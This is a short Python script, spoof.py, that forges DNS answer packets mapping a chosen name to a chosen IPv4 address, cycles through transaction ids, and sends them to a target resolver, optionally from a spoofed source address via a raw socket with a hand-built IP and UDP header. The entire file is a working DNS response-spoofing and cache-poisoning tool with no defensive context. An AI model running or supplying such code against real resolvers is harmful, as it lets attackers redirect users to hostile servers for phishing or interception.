"""spoof.py NAME ADDRESS TO PORT FROM SOURCE: forged answers to a pending question, with wrong ids and from FROM:SOURCE, as a
raw packet, or from a socket of its own where FROM is 0.0.0.0. How many could be sent."""
import socket
import struct
import sys

name, address, to, port, source, source_port = sys.argv[1:]
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
question = labels + b"\0" + struct.pack(">2H", 1, 1)
record = b"\xc0\x0c" + struct.pack(">2HIH", 1, 1, 600, 4) + socket.inet_aton(address)
sent = 0
if source == "0.0.0.0":
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
else:
    # With the sender's address in its own hands (raw(7), IP_HDRINCL).
    one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(0, 65536, 97):
    packet = struct.pack(">6H", number, 0x8580, 1, 1, 0, 0) + question + record
    if source != "0.0.0.0":
        # No checksum: over IPv4 that is allowed (RFC 768).
        packet = struct.pack(">4H", int(source_port), int(port), 8 + len(packet), 0) + packet
        ends = socket.inet_aton(source) + socket.inet_aton(to)
        packet = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(packet), 0, 0, 64, 17, 0) + ends + packet
    try:
        one.sendto(packet, (to, int(port)))
        sent += 1
    except OSError:
        pass
print(f"sent={sent}")
